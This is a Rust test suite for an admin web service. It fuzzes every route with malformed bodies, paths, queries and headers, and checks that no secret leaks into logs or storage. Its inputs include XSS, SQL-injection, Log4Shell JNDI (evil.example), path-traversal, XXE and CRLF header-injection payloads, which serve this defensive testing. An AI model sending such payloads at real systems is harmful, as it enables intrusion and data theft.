//! Whatever a client sends, it gets an answer in the family's shape, never a fault of ours; and
//! no secret that it sent or was given finds its way into the log.

use crate::errors::filled;
use crate::support::{Answer, Bench, Caller, PASSWORD, Site, Tokens, log};
use axum::http::Method;
use menshen_http::{Endpoint, openapi, routes};
use menshen_services::settings::CaptchaMode;
use serde_json::{Map, Value, json};
use std::collections::BTreeSet;

/// How many wrong bodies each route that reads one is given.
const BODIES: usize = 200;
/// And each that reads none.
const FEW: usize = 20;

/// A small generator (xorshift), so that a run can be repeated.
struct Dice(u64);

impl Dice {
    /// Seeded by a text.
    fn of(seed: &str) -> Self {
        let hash = |h: u64, b: u8| (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3);
        Self(seed.bytes().fold(0xcbf2_9ce4_8422_2325, hash) | 1)
    }

    fn below(&mut self, n: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % n as u64).expect("small")
    }
}

/// Values as JSON text, few of which any field takes.
fn values() -> Vec<String> {
    let text = |s: &str| Value::String(s.to_owned()).to_string();
    let mut all: Vec<String> = [
        "null",
        "true",
        "false",
        "0",
        "-0",
        "-1",
        "1.5",
        "1e400",
        "-1e400",
        "1e-400",
        "1E+2",
        "9007199254740992",
        "9223372036854775807",
        "9223372036854775808",
        "-9223372036854775809",
        "[]",
        "{}",
        "[[]]",
        "[null]",
        "[[[[]]]]",
        "[1,\"a\",null]",
        "{\"a\":{\"b\":[]}}",
        "{\"$ne\":\"\"}",
        "{\"__proto__\":{}}",
        "\"\"",
        "\" \"",
        "\"\\u0000\"",
        "\"a\\u0000b\"",
        "\"\\ud800\"",
        "\"\\udc00\\ud800\"",
        "\"\\uffff\\ufffe\"",
        "\"\\b\\f\\r\\n\\t\"",
        "[\"\\u0000\"]",
        "[9223372036854775807,-9223372036854775808]",
        "NaN",
        "Infinity",
        "undefined",
        "0x10",
        "01",
        "+1",
        ".5",
        "'a'",
        "\"unterminated",
        "\"\\x\"",
    ]
    .map(str::to_owned)
    .into();
    all.push("9".repeat(400));
    all.push(format!("-0.{}", "9".repeat(4000)));
    all.push("[".repeat(127) + &"]".repeat(127));
    all.push("[".repeat(5000));
    all.push("{\"a\":".repeat(5000));
    all.push(format!("[{}0]", "0,".repeat(20_000)));
    let ids: Vec<String> = (1_000_000..1_040_000).map(|n| n.to_string()).collect();
    all.push(format!("[{}]", ids.join(",")));
    for s in [
        "<script>alert(1)</script>",
        "' OR '1'='1' --",
        "\"; DROP TABLE role; --",
        "%s%n%x%d{}{0}",
        "${jndi:ldap://evil.example/a}",
        "../../etc/passwd",
        "\u{feff}bom",
        "\u{202e}detrevni",
        "e\u{301}\u{301}\u{301}\u{301}",
        "👩‍👩‍👧‍👦🔑\u{10ffff}",
        "\u{7f}\u{85}\u{2028}",
        "a\r\nSet-Cookie: x=1",
        "*:*:*",
        "1",
    ] {
        all.push(text(s));
        all.push(format!("[{}]", text(s)));
    }
    all.push(text(&"x".repeat(100_000)));
    all.push(text(&"密".repeat(1000)));
    all
}

/// Bodies that are wrong as a whole, whatever the route.
fn wholes() -> Vec<Vec<u8>> {
    let mut all: Vec<Vec<u8>> = values().into_iter().map(String::into_bytes).collect();
    for bytes in [
        &b""[..],
        b" \t\r\n",
        b"\xef\xbb\xbf{}",
        b"\xff\xfe{\x00}\x00",
        b"\x00",
        b"\xff",
        b"{\"a\":\"\xc3\x28\"}",
        b"{\"\xed\xa0\x80\":1}",
        b"{",
        b"}",
        b"{\"",
        b"{\"a\"",
        b"{\"a\":",
        b"{\"a\":1,",
        b"{}{}",
        b"{} x",
        b"{\"a\":1,}",
        b"{a:1}",
        b"/* x */ {}",
        b"username=root&password=x",
        b"--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--x--",
        b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    ] {
        all.push(bytes.to_vec());
    }
    // A JSON string that holds relaxed JSON, as document C has it, taken too far.
    for inner in [
        "[".repeat(50_000),
        "{a:".repeat(50_000),
        "-".repeat(1000),
        format!("{{pageNum: {}}}", "9".repeat(400)),
        "{pageNum: 1e999}".to_owned(),
        "{pageNum: NaN, pageSize: -Infinity}".to_owned(),
        "{roleName: '\\0', roleKey: '\\uD800'}".to_owned(),
        "{roleName: '\\u0000'}".to_owned(),
        "{\u{feff}pageNum\u{a0}: 0x7fffffffffffffff,}".to_owned(),
        "// nothing".to_owned(),
        "/* nothing".to_owned(),
        "\"".to_owned(),
    ] {
        all.push(Value::String(inner).to_string().into_bytes());
    }
    all
}

/// The names of the fields that a route's body has, and good values for them where one matters.
fn template(endpoint: &Endpoint) -> Map<String, Value> {
    let document = openapi::document();
    let operation =
        &document["paths"][endpoint.path][endpoint.method.as_str().to_ascii_lowercase()];
    let mut schema = &operation["requestBody"]["content"]["application/json"]["schema"];
    if let Some(name) = schema["$ref"].as_str() {
        let pointer = name.trim_start_matches('#');
        schema = document.pointer(pointer).expect("a schema");
    }
    let mut names: Vec<String> = schema["properties"]
        .as_object()
        .map(|p| p.keys().cloned().collect())
        .unwrap_or_default();
    for parameter in &endpoint.parameters {
        if parameter.place == "query" {
            names.push(parameter.name.to_owned());
        }
    }
    let good = json!({
        "username": "root", "password": PASSWORD, "currentPassword": "is not it at all",
        "newPassword": "staple battery correct", "roleName": "r", "roleKey": "r", "roleSort": 1,
        "status": "0", "remark": "x", "permission": [], "permissions": [], "menuIds": [],
        "dataScope": "1", "deptIds": [], "roleId": 999_999, "pageNum": 1, "pageSize": 1,
        "nickname": "n", "sex": "1", "email": "a@example.com", "phone": "13800000000",
        "avatar": "", "roleIds": [], "mustChangePassword": false,
    });
    names
        .into_iter()
        .map(|name| {
            let value = good.get(&name).cloned().unwrap_or(Value::Null);
            (name, value)
        })
        .collect()
}

/// As an object's JSON text, with `value` for the field `at`.
fn spelled(fields: &Map<String, Value>, at: usize, value: &str, dice: &mut Dice) -> Vec<u8> {
    let mut parts: Vec<String> = fields
        .iter()
        .enumerate()
        .filter(|(i, (_, v))| *i != at && !v.is_null())
        .map(|(_, (name, v))| format!("{}:{v}", Value::String(name.clone())))
        .collect();
    if let Some((name, old)) = fields.iter().nth(at) {
        let snake: String = name
            .chars()
            .flat_map(|c| match c.is_ascii_uppercase() {
                true => vec!['_', c.to_ascii_lowercase()],
                false => vec![c],
            })
            .collect();
        let name = if dice.below(3) == 0 { &snake } else { name };
        let field = format!("{}:{value}", Value::String(name.clone()));
        if dice.below(8) == 0 {
            // The same name twice, and in both spellings.
            parts.push(format!("{}:{old}", Value::String(name.clone())));
            parts.push(format!("{}:{old}", Value::String(snake.clone())));
        }
        parts.push(field);
    }
    let mut text = format!("{{{}}}", parts.join(",")).into_bytes();
    if dice.below(6) == 0 {
        let keep = dice.below(text.len());
        text.truncate(keep);
    }
    text
}

/// The wrong bodies of a route, always the same ones.
fn bodies(endpoint: &Endpoint, count: usize) -> Vec<Vec<u8>> {
    let mut dice = Dice::of(&format!("{} {}", endpoint.method, endpoint.path));
    let (values, mut wholes) = (values(), wholes());
    let fields = template(endpoint);
    let mut all = Vec::new();
    // Half of them wrong in one field, if there are any; the rest wrong altogether.
    while !fields.is_empty() && all.len() < count / 2 {
        let at = dice.below(fields.len());
        let value = &values[dice.below(values.len())];
        all.push(spelled(&fields, at, value, &mut dice));
    }
    while all.len() < count {
        if wholes.is_empty() {
            wholes = self::wholes();
        }
        let at = dice.below(wholes.len());
        all.push(wholes.swap_remove(at));
    }
    all
}

/// Whether a handler looks at its body.
fn reads(endpoint: &Endpoint) -> bool {
    endpoint.body.is_some() || matches!(endpoint.path, "/role/list" | "/perm")
}

#[track_caller]
fn is_an_answer(answer: &Answer, what: &str) {
    assert!(answer.status < 500, "{what}: {answer:?}");
    if answer.status >= 400 {
        answer.is_canonical_error();
    } else if answer
        .header("content-type")
        .starts_with("application/json")
    {
        answer.raw();
    }
    assert!(
        !answer.header("x-request-id").is_empty(),
        "{what}: {answer:?}"
    );
    // What is the same for everybody may be long.
    let public = answer.header("cache-control").starts_with("public");
    assert!(
        answer.body.len() < if public { 2_000_000 } else { 300_000 },
        "{what}: an answer of {} bytes",
        answer.body.len()
    );
}

fn shown(body: &[u8]) -> String {
    let text = String::from_utf8_lossy(body);
    let start: String = text.chars().take(300).collect();
    format!("{} bytes: {start:?}", body.len())
}

async fn hostile_site(bench: &Bench) -> Site {
    bench
        .site_with(|s| {
            s.captcha.mode = CaptchaMode::Never;
            s.limits.delay_after = 1_000_000;
            s.limits.name_failures = 1_000_000;
            s.limits.captchas_per_minute = 1_000_000;
            s.registration.per_hour = 1_000_000;
        })
        .await
}

/// Asserts that none of `secrets` was logged, by any case so far, or is in the audit log.
async fn nothing_leaked(site: &Site, secrets: &[String]) {
    let log = log();
    assert!(log.contains("request_id="), "the log is kept: {log:.300}");
    let audit = site.audit().await.join("\n");
    assert!(audit.contains("sign_in"), "the audit log is kept");
    for secret in secrets {
        assert!(secret.len() >= 5, "{secret}");
        for (place, text) in [("log", &log), ("audit log", &audit)] {
            let leak = text.match_indices(secret.as_str()).find(|(at, _)| {
                // A captcha's letters may stand within an id by chance; on their own they may not.
                let alone = |c: Option<char>| c.is_none_or(|c| !c.is_ascii_alphanumeric());
                secret.len() > 8
                    || (alone(text[..*at].chars().next_back())
                        && alone(text[at + secret.len()..].chars().next()))
            });
            if let Some((at, _)) = leak {
                let line = text[..at].rfind('\n').map_or(0, |n| n + 1);
                let end = text[at..].find('\n').map_or(text.len(), |n| at + n);
                panic!("{secret} is in the {place}: {}", &text[line..end]);
            }
        }
    }
}

/// A caller whose session the requests may end, and her tokens.
async fn administrator(site: &Site) -> (Caller, Tokens) {
    let tokens = site.login("root").await;
    let caller = site
        .bearer(&tokens.access)
        .with("x-refresh-token", &tokens.refresh);
    (caller, tokens)
}

pub(crate) async fn two_hundred_wrong_bodies_at_every_route(bench: &Bench) {
    let site = hostile_site(bench).await;
    let role = json!({ "roleName": "v", "roleKey": "victim" });
    let role = site.admin().await.post("/role").json(&role).await.ok();
    let victim = json!({ "username": "victim", "password": PASSWORD });
    let victim = site.add_user(victim).await;
    let dept = json!({ "deptName": "victim" });
    let dept = site.admin().await.post("/dept").json(&dept).await.ok();
    let menu = json!({ "menuName": "victim" });
    let menu = site.admin().await.post("/menu").json(&menu).await.ok();
    let mut secrets = vec![PASSWORD.to_owned(), "staple battery correct".to_owned()];
    let mut statuses = BTreeSet::new();
    for endpoint in routes::all() {
        let (admin, tokens) = administrator(&site).await;
        secrets.extend([tokens.access, tokens.refresh]);
        let path = endpoint
            .path
            .replace("{uid}", &victim.to_string())
            .replace("{roleId}", &role["roleId"].to_string())
            .replace("{key}", "nothing")
            .replace("{deptId}", &dept["deptId"].to_string())
            .replace("{menuId}", &menu["menuId"].to_string())
            .replace("{code}", "a:b:victim");
        // Nothing is to be deleted before the others had their turn.
        let path = match endpoint.method {
            Method::DELETE => filled(endpoint.path),
            _ => path,
        };
        let full = if reads(&endpoint) { BODIES } else { FEW };
        let few = if endpoint.access.is_public() {
            full
        } else {
            FEW
        };
        for (who, caller, count) in [
            ("administrator", &admin, full),
            ("anonymous", &site.anonymous(), few),
        ] {
            for body in bodies(&endpoint, count) {
                let what = format!("{who}: {}", shown(&body));
                let request = caller.call(endpoint.method.clone(), &path);
                let answer = request.body(body).await;
                is_an_answer(&answer, &what);
                statuses.insert(answer.status);
            }
        }
    }
    for expected in [200, 400, 401, 404] {
        assert!(statuses.contains(&expected), "{statuses:?}");
    }
    // Still at work, with the same roles and users to speak of.
    let (admin, _) = administrator(&site).await;
    admin.get("/role/1").await.ok();
    admin.get(&format!("/user/{victim}")).await.ok();
    nothing_leaked(&site, &secrets).await;
}

pub(crate) async fn odd_addresses_queries_and_headers(bench: &Bench) {
    let site = hostile_site(bench).await;
    let (admin, tokens) = administrator(&site).await;
    let long = "9".repeat(3000);
    let ids = [
        "-1",
        "0",
        "1.5",
        "1e400",
        "9007199254740992",
        "99999999999999999999",
        long.as_str(),
        "%00",
        "1%00",
        "%ff",
        "%c0%af",
        "..%2f1",
        "..%5c1",
        "%2e%2e%2f",
        "%252e",
        "null",
        "[]",
        "%7B%7D",
        "%3Cscript%3E",
        "%27%20OR%201=1--",
        "%EF%BC%91",
        "%F0%9F%94%91",
        "+1",
        "1;x=2",
        "1,2",
        "~",
        "list%2f",
        "{roleId}",
        "%",
        "%zz",
        "%0d%0aSet-Cookie:x",
    ];
    let value = ids.map(|id| match id.contains('%') {
        true => id.to_owned(),
        false => crate::support::percent(id),
    });
    for endpoint in routes::all() {
        // What changes or ends something is not called with good tokens and no body.
        let harmless = endpoint.method == Method::GET && !endpoint.path.ends_with("/logout");
        if endpoint.path.contains('{') {
            for id in ids {
                let path: Vec<&str> = endpoint
                    .path
                    .split('/')
                    .map(|part| if part.starts_with('{') { id } else { part })
                    .collect();
                if endpoint.method == Method::DELETE && id == "+1" {
                    continue;
                }
                for caller in [&admin, &site.anonymous()] {
                    let request = caller.call(endpoint.method.clone(), &path.join("/"));
                    is_an_answer(&request.json(&json!({})).await, id);
                }
            }
        }
        let path = filled(endpoint.path);
        for parameter in endpoint.parameters.iter().filter(|p| p.place == "query") {
            for value in &value {
                let path = format!(
                    "{path}?{}={value}&{}[]={value}",
                    parameter.name, parameter.name
                );
                let answer = admin.call(endpoint.method.clone(), &path).await;
                is_an_answer(&answer, value);
            }
        }
        for query in [
            "",
            "=",
            "&&&",
            "=&=",
            "%00=%00",
            "%ff=%fe",
            "a[b][c]=1",
            "a=1;b=2",
            "+=+",
            "%",
        ] {
            let caller = if harmless { &admin } else { &site.anonymous() };
            let answer = caller
                .call(endpoint.method.clone(), &format!("{path}?{query}"))
                .await;
            is_an_answer(&answer, query);
        }
        for (name, value) in [
            ("authorization", &b"Bearer \xff\xfe"[..]),
            ("authorization", b"Bearer ..."),
            ("authorization", b"Basic cm9vdDpyb290"),
            ("cookie", b"token=\xff; menshen_session=\xfe; =; ;;; a"),
            ("cookie", b"menshen_session=AAAAAAAAAAAAAAAAAAAAAA"),
            (
                "cookie",
                b"menshen_session=00000000-0000-0000-0000-000000000000; token=x",
            ),
            ("x-refresh-token", b"\xff\x80"),
            ("accept-language", b"\xff;q=\xfe,,,;;;"),
            ("accept", b"\xff"),
            ("content-type", b"application/json; charset=\xff"),
            ("content-type", b"multipart/form-data"),
            ("content-encoding", b"gzip"),
            ("user-agent", b"\xff\xfe<script>"),
            ("user-agent", b""),
            ("x-forwarded-for", b"\xff, 1.2.3.4, ,,"),
            ("x-request-id", b"\xff\" x=y"),
            ("origin", b"\xff"),
            ("host", b"evil.example"),
            ("x-http-method-override", b"DELETE"),
            ("range", b"bytes=0-1"),
            ("if-none-match", b"*"),
        ] {
            let request = site.anonymous().call(endpoint.method.clone(), &path);
            let answer = request.header(name, value).body("{}").await;
            is_an_answer(&answer, &format!("{name}: {}", shown(value)));
        }
    }
    admin.get("/test").await.is(204);
    nothing_leaked(&site, &[tokens.access, tokens.refresh]).await;
}

pub(crate) async fn wrong_bodies_at_every_server_function(bench: &Bench) {
    let site = hostile_site(bench).await;
    let forms: Vec<String> = [
        "",
        "&",
        "=",
        "%",
        "%00=%00",
        "%ff=%ff",
        "id=",
        "id=x",
        "id=-1",
        "id=1.5",
        "id=1e400",
        "id=99999999999999999999",
        "id=1&id=2",
        "id[]=1",
        "id[x][y]=1",
        "query=1",
        "query[page]=x",
        "query[page]=9223372036854775807",
        "query[q]=%00",
        "query[q]=%25",
        "query[status]=9",
        "role_ids[]=x",
        "role_ids[0]=1&role_ids[0]=2",
        "role_ids[99999999]=1",
        "username=%00&password=x",
        "username=a%00b&password=c%00d",
        "username=%ff&password=%ff",
        "name=%3Cscript%3E&key=%00&sort=x&data_scope=9",
        "permissions[]=%00&tree=true&id=1",
        "captcha_key=%00&captcha_code=%00&username=x&password=y",
        "lang=%00&back=//evil.example",
        "theme=%0d%0aSet-Cookie:x&back=%0d%0a",
        "disabled=perhaps",
        "tree=2",
        "more=%00,%ff",
        "current_password=%00&new_password=%00&repeat_password=%00",
        "status=%00&id=999999",
        "{\"id\":1}",
        "[]",
        "\u{0}",
    ]
    .map(str::to_owned)
    .into();
    let deep = format!("query{}=1", "[a]".repeat(3000));
    let long = format!(
        "username={0}&password={0}&name={0}&id=1",
        "x".repeat(200_000)
    );
    for (path, method) in leptos::server_fn::axum::server_fn_paths() {
        // Each on its own session: one of them ends it.
        let (admin, nobody) = (site.browser("root").await, site.new_browser());
        for (n, form) in forms.iter().chain([&deep, &long]).enumerate() {
            // Each form in one of the ways; over all functions it meets every way.
            let way = n + path.len();
            let content_type = ["application/x-www-form-urlencoded", "application/json"][way % 2];
            for (caller, accept) in [
                (&admin, ["text/html", "*/*"][way / 2 % 2]),
                (&nobody, ["*/*", "text/html"][way / 2 % 2]),
            ] {
                let answer = caller
                    .call(method.clone(), path)
                    .body(form.clone())
                    .header("content-type", content_type)
                    .header("accept", accept)
                    .await;
                let what = format!("{} {content_type}", shown(form.as_bytes()));
                assert!(answer.status < 500, "{what}: {answer:?}");
                assert!(!answer.header("x-request-id").is_empty());
                for cookie in answer.headers.get_all("set-cookie") {
                    let cookie = String::from_utf8_lossy(cookie.as_bytes());
                    assert!(!cookie.starts_with('x'), "{what}: {cookie}");
                }
                let to = answer.header("location");
                let ours = to.is_empty() || to == "/" || to.starts_with("/admin");
                assert!(ours, "{what}: {to}");
            }
        }
    }
    site.admin().await.get("/role/1").await.ok();
}

pub(crate) async fn req52_no_secret_is_logged(bench: &Bench) {
    let site = bench.site().await;
    let mut secrets = Vec::new();
    let mut secret = |n: u32| {
        let text = format!("Ohne-{n}-Geheimnis-{}", n * 7919);
        secrets.push(text.clone());
        text
    };
    let anonymous = site.anonymous();
    // Passwords where they belong, and where they do not.
    let first = secret(1);
    let anna = site
        .add_user(json!({ "username": "anna", "password": first }))
        .await;
    for (n, body) in [
        format!(r#"{{"username":"anna","password":"{}""#, secret(2)),
        format!(r#"{{"username":"anna","password":["{}"]}}"#, secret(3)),
        format!(r#"{{"username":5,"password":"{}"}}"#, secret(4)),
        format!(r#"{{"username":"anna","password":"{}"}}"#, secret(5)),
        format!(r#"{{"username":"anna","password":"{}x"}}"#, secret(6)),
        format!(r#""{}""#, secret(7)),
        secret(8),
        format!(r#"{{"{}":1}}"#, secret(9)),
        format!(
            r#"{{"username":"anna","password":"p","captchaKey":"kk","captchaCode":"{}"}}"#,
            secret(10)
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let answer = anonymous.post("/auth/login").body(body).await;
        assert!(matches!(answer.status, 400 | 401), "{n}: {answer:?}");
    }
    let query = format!("?username=anna&password={}", secret(11));
    anonymous.post(&format!("/auth/login{query}")).await;
    anonymous.get(&format!("/role/list{query}")).await;
    anonymous.get(&format!("/nothing{query}")).await;
    anonymous.get(&format!("/admin/login{query}")).await;
    let basic = format!("Basic {}", secret(12));
    anonymous
        .get("/auth/me")
        .header("authorization", basic)
        .await;
    let bearer = format!("Bearer {}", secret(13));
    anonymous
        .get("/auth/me")
        .header("authorization", bearer)
        .await;
    for (header, value) in [
        ("x-refresh-token", secret(14)),
        ("cookie", format!("token={}", secret(15))),
    ] {
        anonymous.post("/auth/session").header(header, &value).await;
        anonymous.post("/auth/logout").header(header, &value).await;
    }
    let session = format!("menshen_session={}", secret(16));
    anonymous.get("/admin").header("cookie", &session).await;
    // Every change of a password.
    let admin = site.admin().await;
    let sign_up = json!({ "username": "berta", "password": secret(17) });
    anonymous.post("/user").json(&sign_up).await.is(201);
    let reset = json!({ "password": secret(18) });
    admin.put(&format!("/user/{anna}")).json(&reset).await.ok();
    let tokens = Tokens::of(
        &site
            .try_login("berta", sign_up["password"].as_str().expect("text"))
            .await
            .is(200),
    );
    let berta = site.bearer(&tokens.access);
    for (current, new) in [
        (secret(19), secret(20)),
        (
            sign_up["password"].as_str().expect("text").to_owned(),
            secret(21),
        ),
    ] {
        let body = json!({ "currentPassword": current, "newPassword": new });
        berta.put("/auth/password").json(&body).await;
    }
    // The login page, with and without JavaScript.
    for accept in ["text/html", "*/*"] {
        let form = [
            ("username", "anna"),
            ("password", &secret(22)),
            ("captcha_code", &secret(23)),
            ("captcha_key", "k"),
        ];
        let answer = anonymous
            .post("/admin/fn/sign_in")
            .form(&form)
            .header("accept", accept)
            .await;
        let flash = answer.cookie("menshen_flash").unwrap_or_default();
        assert!(!flash.contains("Geheimnis"), "{flash}");
    }
    // Tokens and captchas that were given out.
    let (key, answer) = site.captcha().await;
    let body = json!({
        "username": "root", "password": PASSWORD, "captchaKey": key, "captchaCode": answer,
    });
    let login = anonymous.post("/auth/login").json(&body).await.is(200);
    let tokens = Tokens::of(&login);
    let browser = site.new_browser();
    let page = browser
        .post("/admin/fn/sign_in")
        .form(&[("username", "root"), ("password", PASSWORD)])
        .await
        .is(200);
    let cookie = page.cookie("menshen_session").expect("a session");
    let cookie = cookie.split(['=', ';']).nth(1).expect("its id").to_owned();
    browser.get("/admin").await.is(200);
    let renewed = anonymous
        .post("/auth/session")
        .header("x-refresh-token", &tokens.refresh)
        .header("cookie", format!("token={}", tokens.refresh))
        .await
        .is(204);
    let renewed = Tokens::of(&renewed);
    let thief = anonymous.clone().with("user-agent", "thief/1.0");
    thief
        .post("/auth/session")
        .header("x-refresh-token", &renewed.refresh)
        .header("cookie", format!("token={}", renewed.refresh))
        .await
        .is(403);
    let due = admin
        .call(Method::POST, "/admin/fn/reset_password")
        .form(&[("id", &anna.to_string())])
        .await;
    let one_time = due.text().trim().trim_matches('"').to_owned();
    if due.status == 200 {
        assert!(one_time.len() >= 16, "{due:?}");
        secrets.push(one_time);
    }
    secrets.extend([
        PASSWORD.to_owned(),
        answer,
        cookie,
        tokens.access,
        tokens.refresh,
        renewed.access,
        renewed.refresh,
    ]);
    nothing_leaked(&site, &secrets).await;
    // Nor are they kept anywhere as they are.
    for table in [
        "user_account",
        "session",
        "refresh_token",
        "captcha",
        "throttle",
    ] {
        for column in texts_of(&site, table).await {
            let rows = site
                .texts(&format!(
                    "SELECT CAST({column} AS TEXT) FROM {table} WHERE {column} IS NOT NULL"
                ))
                .await;
            for secret in secrets.iter().filter(|s| s.len() > 8) {
                let leak = rows.iter().find(|row| row.contains(secret.as_str()));
                assert_eq!(leak, None, "{secret} is in {table}.{column}");
            }
        }
    }
}

/// The columns of a table that hold text.
async fn texts_of(site: &Site, table: &str) -> Vec<String> {
    let query = match site.db.backend() {
        menshen_storage::Backend::Sqlite => {
            format!("SELECT name FROM pragma_table_info('{table}') WHERE type = 'TEXT'")
        }
        menshen_storage::Backend::Postgres => format!(
            "SELECT CAST(column_name AS TEXT) FROM information_schema.columns
             WHERE table_name = '{table}' AND data_type = 'text'"
        ),
    };
    let columns = site.texts(&query).await;
    assert!(!columns.is_empty(), "{table} has texts");
    columns
}
